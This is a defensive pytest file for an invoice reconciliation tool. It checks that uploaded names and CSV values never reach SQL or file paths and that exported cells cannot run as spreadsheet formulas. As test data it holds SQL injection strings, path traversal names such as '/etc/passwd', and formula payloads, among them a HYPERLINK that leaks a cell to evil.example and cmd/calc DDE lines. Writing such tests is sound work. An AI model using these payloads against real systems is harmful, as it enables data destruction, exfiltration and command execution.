"""No injection: names and values never become SQL text or paths; exported text never runs as a formula."""

from __future__ import annotations

import ast
import json
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from recon.importing import import_bytes, import_paths
from recon.safety import inert_cell, inert_cell_text
from recon.store import Database
from tests.conftest import invoice_csv, invoice_row, table_counts

RECON = Path(__file__).resolve().parents[1] / "recon"
NASTY = [
    "x'); DROP TABLE invoice_lines; --",
    "Robert\"; DELETE FROM source_files; --",
    "$sha256",
    "?",
    "' OR 1=1 --",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("name", NASTY + ["..\\..\\windows\\evil.csv", "räbbit ü €.csv"])
def test_file_names_are_stored_as_text_and_never_reach_sql(db: Database, tmp_path: Path, name: str) -> None:
    safe_name = name.replace("/", "_")
    path = tmp_path / safe_name
    path.write_bytes(invoice_csv([invoice_row(number=f"PR-{abs(hash(name)) % 10**9}")]))
    report = import_paths(db, [path])
    assert report.exit_code == 0, report.files[0].problems
    assert db.con.execute("SELECT original_name FROM source_files").fetchall() == [(safe_name,)]
    assert table_counts(db)["invoice_lines"] == 1


def test_column_values_are_stored_verbatim(db: Database) -> None:
    header = "Rechnungsnummer;Rechnungsdatum;Fälligkeitsdatum;Leistungsart;Auftragsnummer;Positions-ID;" \
             "Versanddatum;Artikelnummer;Produktkategorie;Bemessungsgrundlage brutto;Provisionssatz;" \
             "Provision netto;USt-Satz;USt;Provision brutto;Währung;Notiz"
    quoted = ['"' + value.replace('"', '""') + '"' for value in NASTY]
    rows = [
        f"PR-INJ-1;04.11.2026;18.11.2026;Verkaufsprovision;ORD-{n};POS-{n};29.10.2026 10:15:00;"
        f"{value};Möbel;119,00;15,00;17,85;19,00;3,39;21,24;EUR;{value}"
        for n, value in enumerate(quoted)
    ]
    result = import_bytes(db, "values.csv", invoice_csv(rows, header=header))
    assert result.status == "imported", result.problems
    stored = db.con.execute("SELECT sku, extra FROM invoice_lines ORDER BY source_line").fetchall()
    assert [sku for sku, _ in stored] == NASTY
    assert [json.loads(extra)["Notiz"] for _, extra in stored] == NASTY
    assert table_counts(db)["source_files"] == 1


def test_the_upload_name_is_never_opened_or_written_as_a_path(db: Database, tmp_path: Path) -> None:
    decoy = tmp_path / "decoy.csv"
    decoy.write_bytes(b"not what was uploaded")
    uploaded = invoice_csv([invoice_row(number="PR-UP-1")])
    before = sorted(os.listdir(tmp_path))
    for name in (str(decoy), "../../../../etc/passwd", "/dev/zero", str(tmp_path / "new.csv")):
        result = import_bytes(db, name, uploaded)
        assert result.status in ("imported", "skipped")
    assert sorted(os.listdir(tmp_path)) == before
    assert decoy.read_bytes() == b"not what was uploaded"
    assert db.con.execute("SELECT original_name, size_bytes FROM source_files").fetchall() == [
        ("decoy.csv", len(uploaded))]
    assert db.con.execute("SELECT invoice_number FROM invoice_lines").fetchall() == [("PR-UP-1",)]


SQL_CALLS = {"execute", "executemany", "sql", "query", "from_query"}


def _sql_built_from_text(node: ast.Call) -> bool:
    """A call like con.execute(f"...{x}") or con.execute("..." + x) or con.execute("...".format(x))."""
    if not (isinstance(node.func, ast.Attribute) and node.func.attr in SQL_CALLS and node.args):
        return False
    first = node.args[0]
    if isinstance(first, ast.JoinedStr):
        return True
    if isinstance(first, ast.BinOp) and isinstance(first.op, ast.Add | ast.Mod):
        return True
    return (isinstance(first, ast.Call) and isinstance(first.func, ast.Attribute)
            and first.func.attr == "format")


def _offenders() -> list[str]:
    offenders = []
    for path in sorted(RECON.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        offenders += [f"{path.relative_to(RECON.parent)}:{n.lineno}" for n in ast.walk(tree)
                      if isinstance(n, ast.Call) and _sql_built_from_text(n)]
    return offenders


def test_no_sql_text_is_built_from_values_anywhere_in_recon() -> None:
    # In a fresh interpreter: CPython 3.11's parser can fail with "AST constructor recursion depth mismatch"
    # in a process where other tests ran into deep recursion (the 100,000-level JSON of the input tests).
    script = "import json, tests.test_injection as t; print(json.dumps(t._offenders()))"
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False,
                          cwd=RECON.parent, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == []


def test_the_scan_would_catch_an_offender() -> None:
    bad = ast.parse('con.execute(f"SELECT * FROM t WHERE name = \'{name}\'")\ncon.sql("SELECT " + x)')
    assert [_sql_built_from_text(n) for n in ast.walk(bad) if isinstance(n, ast.Call)] == [True, True]


@pytest.mark.parametrize(("text", "shown"), [
    ("=1+1", "'=1+1"),
    ("=HYPERLINK(\"http://evil.example\")", "'=HYPERLINK(\"http://evil.example\")"),
    ("+49 171 000", "'+49 171 000"),
    ("-2+3", "'-2+3"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Möbel", "Möbel"),
    ("SCHRANK-EICHE-Ä1", "SCHRANK-EICHE-Ä1"),
    ("a=b", "a=b"),
    ("", ""),
    ("-12,30", "-12,30"),  # a negative number as text stays a number
    ("-12.30", "-12.30"),
    ("+5", "+5"),
    ("-1.234,56", "-1.234,56"),
])
def test_exported_text_cannot_run_as_a_formula(text: str, shown: str) -> None:
    assert inert_cell_text(text) == shown


def test_numbers_and_other_values_pass_unchanged() -> None:
    assert inert_cell(Decimal("-12.30")) == Decimal("-12.30")
    assert inert_cell(-5) == -5
    assert inert_cell(None) is None
    assert inert_cell("=A1") == "'=A1"


def test_dashboard_discrepancy_csv_makes_imported_text_inert() -> None:
    from datetime import date
    from decimal import Decimal

    from recon.engine import Discrepancy, Evidence, ReconResult
    from recon.ui.downloads import discrepancy_csv

    finding = Discrepancy(
        kind="CHARGE_WITHOUT_SALE", order_number='=HYPERLINK("http://evil/?"&A1)', position_item_id="@SUM(A1)",
        document_number="+cmd|' /C calc'!A0", document_date=date(2026, 11, 4), expected=Decimal("0.00"),
        actual=Decimal("-12.30"), evidence=(Evidence("-x.csv", 2, "ab"),), message="=1+1",
    )
    text = discrepancy_csv(ReconResult(date(2026, 11, 24), None, None, "ref", {}, [finding])).decode("utf-8-sig")
    import csv
    import io

    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row == [
        "CHARGE_WITHOUT_SALE", "Provision ohne Verkauf", "04.11.2026", "'+cmd|' /C calc'!A0",
        "'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(A1)",
        "0,00", "-12,30", "-12,30", "Händler", "12,30", "'-x.csv:2", "'=1+1",
    ]
